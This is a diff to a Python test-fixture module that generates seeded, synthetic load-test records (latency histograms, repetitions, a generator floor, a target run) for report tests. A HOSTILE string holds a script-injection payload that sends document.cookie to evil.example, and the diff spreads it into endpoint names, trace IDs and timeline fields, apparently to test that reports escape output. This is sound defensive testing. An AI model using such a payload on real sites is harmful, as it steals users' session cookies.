@@ -1,5 +1,6 @@
 """Makes run records as two shared cores give them, the same ones every time."""
 
+import math
 import random
 from collections.abc import Sequence
 from datetime import UTC, datetime
@@ -8,18 +9,21 @@ from functools import cache
 from msgspec.structs import replace
 
 from reports import latency
+from reports.measurements import Timeline
 from reports.record import (
     Check,
     Conditions,
     Configuration,
     E2eRun,
     Endpoint,
+    Floor,
     Histograms,
     Level,
     LoadRun,
     Phase,
     Repetition,
 )
+from tests.unit.reports import sample_courses
 
 HOSTILE = (
     '<script>fetch("http://evil.example/" + document.cookie)</script> \'"><img src=x> \x1b[31m'
@@ -71,15 +75,19 @@ def phase(  # noqa: PLR0913 -- every figure of a phase can be asked for
 ) -> Phase:
     """Return a phase whose latencies are drawn from a log-normal with a slow tail."""
     chance = random.Random(seed)  # noqa: S311 -- not for secrets
-    total, rpc = latency.new_histogram(), latency.new_histogram()
+    rpc, service = latency.new_histogram(), latency.new_histogram()
     parts = {name: latency.new_histogram() for name in endpoints}
     samples = round(rate_per_s * duration_s)
+    seconds = [latency.new_histogram() for _ in range(math.ceil(duration_s))]
     for index in range(samples):
         tail = 0.9 if index % 10 == 0 else 0.5
         http_us = 1_000 * middle_ms * chance.lognormvariate(0, tail)
-        for histogram in (total, parts[endpoints[index % len(endpoints)]]):
+        second = seconds[int(index / samples * duration_s)]
+        for histogram in (second, parts[endpoints[index % len(endpoints)]]):
             latency.record_us(histogram, http_us)
         latency.record_us(rpc, http_us * chance.uniform(0.6, 0.85))
+        latency.record_us(service, http_us * chance.uniform(0.9, 1.0))
+    total = latency.merge(seconds)
     closed = arrivals == "closed"
     reasons = (
         {
@@ -111,6 +119,8 @@ def phase(  # noqa: PLR0913 -- every figure of a phase can be asked for
         histograms=Histograms(
             total=latency.encode(total),
             rpc=latency.encode(rpc),
+            service_time=latency.encode(service),
+            seconds=tuple(map(latency.encode, seconds)),
             endpoints={name: latency.encode(histogram) for name, histogram in parts.items()},
         ),
         endpoints=tuple(
@@ -124,50 +134,85 @@ def phase(  # noqa: PLR0913 -- every figure of a phase can be asked for
         ),
         errors={},
         levels=_levels(rate_per_s, middle_ms, chance) if closed else (),
+        hops=sample_courses.breakdowns(middle_ms, samples),
+        slowest=sample_courses.slowest(middle_ms, endpoints[0], chance),
+        timeline=sample_courses.timeline(len(seconds), rate_per_s, middle_ms, chance),
+        used=sample_courses.used(duration_s, rate_per_s),
+        loop_gap_ms_max=11.0,
         reasons=reasons,
     )
     return replace(usual, **changes)
 
 
 @cache
-def configuration(
-    scenario: str, point: tuple[int, int], *, maximum: float, common: float, middle_ms: float
+def configuration(  # noqa: PLR0913 -- a point, and what it does
+    scenario: str,
+    point: tuple[int, int],
+    *,
+    maximum: float,
+    common: float,
+    middle_ms: float,
+    repetitions: int = 1,
 ) -> Configuration:
-    """Return one point of a sweep with one repetition."""
+    """Return one point of a sweep; from one repetition to the next, its figures vary."""
     resolvers, workers = point
-    crud = scenario == "crud"
-    endpoints = CRUD_ENDPOINTS if crud else SUPPLIER_ENDPOINTS
-    seed = resolvers * 10 + workers
-
-    def made(rate_per_s: float, busy: float, arrivals: str = "poisson", slow: float = 1.0) -> Phase:
-        return phase(
-            arrivals=arrivals,
-            rate_per_s=rate_per_s,
-            middle_ms=middle_ms * slow,
-            busy=busy,
-            workers=workers,
-            endpoints=endpoints,
-            seed=seed,
-        )
-
     return Configuration(
         scenario=scenario,
         resolvers=resolvers,
         service_workers=workers,
         gateway_workers=1,
         prefetch=32,
-        repetitions=(
-            Repetition(
-                warm_up=made(common, 0.6),
-                closed=made(maximum, 0.98 if crud else 0.44, "closed", 2.4),
-                open=made(maximum * 0.7, 0.74 if crud else 0.35, slow=1.2),
-                common=made(common, 0.71 if crud else 0.31),
-            ),
+        repetitions=tuple(
+            _repetition(scenario, point, number, maximum, common, middle_ms)
+            for number in range(repetitions)
         ),
     )
 
 
-def load_run(points: Sequence[tuple[int, int]] = POINTS, **changes: object) -> LoadRun:
+def _repetition(  # noqa: PLR0913, PLR0917 -- as above
+    scenario: str,
+    point: tuple[int, int],
+    number: int,
+    maximum: float,
+    common: float,
+    middle_ms: float,
+) -> Repetition:
+    """Return one pass: only the first one looks at 70 % of the configuration's own maximum."""
+    crud, seed = scenario == "crud", point[0] * 10 + point[1] + 100 * number
+    chance = random.Random(seed)  # noqa: S311 -- not for secrets
+    slower, faster = (chance.lognormvariate(0, spread) if number else 1.0 for spread in (0.1, 0.02))
+
+    def made(
+        rate_per_s: float,
+        busy: float,
+        arrivals: str = "poisson",
+        slow: float = 1.0,
+        duration_s: float = 6.0,
+    ) -> Phase:
+        return phase(
+            duration_s=duration_s,
+            arrivals=arrivals,
+            rate_per_s=rate_per_s,
+            middle_ms=middle_ms * slow * slower,
+            busy=busy,
+            workers=point[1],
+            endpoints=CRUD_ENDPOINTS if crud else SUPPLIER_ENDPOINTS,
+            seed=seed,
+        )
+
+    return Repetition(
+        warm_up=made(common, 0.6, slow=1.5, duration_s=3.0),
+        closed=made(maximum * faster, 0.98 if crud else 0.44, "closed", 2.4, 3.0),
+        open=None if number else made(maximum * 0.7, 0.74 if crud else 0.35, slow=1.2),
+        common=made(common, 0.71 if crud else 0.31),
+        warmed=sample_courses.warmed(common, middle_ms),
+        reasons={"open": "measured in the first repetition only"} if number else {},
+    )
+
+
+def load_run(
+    points: Sequence[tuple[int, int]] = POINTS, repetitions: int = 1, **changes: object
+) -> LoadRun:
     """Return a sweep over two scenarios: one bound by the CPU, one by waiting."""
     crud = [
         configuration(
@@ -176,6 +221,7 @@ def load_run(points: Sequence[tuple[int, int]] = POINTS, **changes: object) -> L
             maximum=CRUD_MAXIMUM.get(point, 500.0),
             common=351.0,
             middle_ms=11.0 + 4 * sum(point),
+            repetitions=repetitions,
         )
         for point in points
     ]
@@ -186,6 +232,7 @@ def load_run(points: Sequence[tuple[int, int]] = POINTS, **changes: object) -> L
             maximum=SUPPLIER_MAXIMUM.get(point, 200.0),
             common=61.6,
             middle_ms=52.0 / point[1],
+            repetitions=repetitions,
         )
         for point in points
     ]
@@ -201,9 +248,56 @@ def load_run(points: Sequence[tuple[int, int]] = POINTS, **changes: object) -> L
             "crud": "Reads with a limit, writes paired with deletes, on both services.",
             "supplier": "Availability calls, which wait for a supplier: time passes without CPU.",
         },
+        floor=floor(),
         configurations=(*crud, *supplier),
     )
     return replace(usual, **changes)
+
+
+@cache
+def floor() -> Floor:
+    """Return what a generator adds of its own: well under a millisecond, with a thin tail."""
+    chance, histogram = random.Random(3), latency.new_histogram()  # noqa: S311 -- not for secrets
+    for _ in range(5_000):
+        latency.record_us(histogram, 1_000 * (0.35 + chance.expovariate(3)))
+    return Floor(
+        rate_per_s=500.0,
+        most_per_s=2_310.0,
+        latency_ms=latency.summary(histogram),
+        histogram=latency.encode(histogram),
+    )
+
+
+def target_run() -> LoadRun:
+    """Return a run against a server that was up: one open phase, and nothing known of its parts."""
+    measured = phase(rate_per_s=200.0, duration_s=30.0, middle_ms=4.0, endpoints=("GET /x",))
+    none = dict.fromkeys(("warm_up", "closed", "common"), "a target is measured at its rate alone")
+    bare = replace(
+        measured,
+        hops=(),
+        slowest=(),
+        used={},
+        worker_shares={},
+        rpc_ms=None,
+        timeline=Timeline(in_flight=measured.timeline.in_flight),
+        histograms=replace(measured.histograms, rpc=None),
+        reasons=measured.reasons | {"rpc_ms": "the target names no hop"},
+    )
+    only = Repetition(warm_up=None, closed=None, open=bare, common=None, reasons=none)
+    one = replace(
+        configuration("crud", (1, 1), maximum=502.0, common=351.0, middle_ms=19.0),
+        scenario="requests",
+        repetitions=(only,),
+    )
+    return load_run(
+        points=[(1, 1)],
+        command="nox -s load -- --target http://127.0.0.1:9000 --request 'GET /x' --rate 200",
+        stack="http://127.0.0.1:9000",
+        target="http://127.0.0.1:9000",
+        scenarios={"requests": "GET /x"},
+        configurations=(one,),
+        ready_s={},
+    )
 
 
 def hostile_load_run() -> LoadRun:
@@ -216,6 +310,16 @@ def hostile_load_run() -> LoadRun:
         failed=41,
         errors={HOSTILE: 40, "x" * 5_000: 1} | {f"reason {number}": 1 for number in range(60)},
         endpoints=(*common.endpoints, replace(common.endpoints[0], name=HOSTILE_NAME)),
+        slowest=(
+            replace(common.slowest[0], endpoint=HOSTILE_NAME, trace_id=HOSTILE),
+            *common.slowest[1:],
+        ),
+        hops=tuple(replace(one, hops_ms=one.hops_ms | {HOSTILE: 0.2}) for one in common.hops),
+        timeline=replace(
+            common.timeline,
+            parts=common.timeline.parts | {HOSTILE: common.timeline.parts["broker"]},
+        ),
+        used=common.used | {HOSTILE: common.used["broker"]},
         worker_shares={"srv_clients": {HOSTILE: 0.93, "srv_clients/8": 0.07}},
     )
     worse = replace(first, repetitions=(replace(first.repetitions[0], common=bad),))
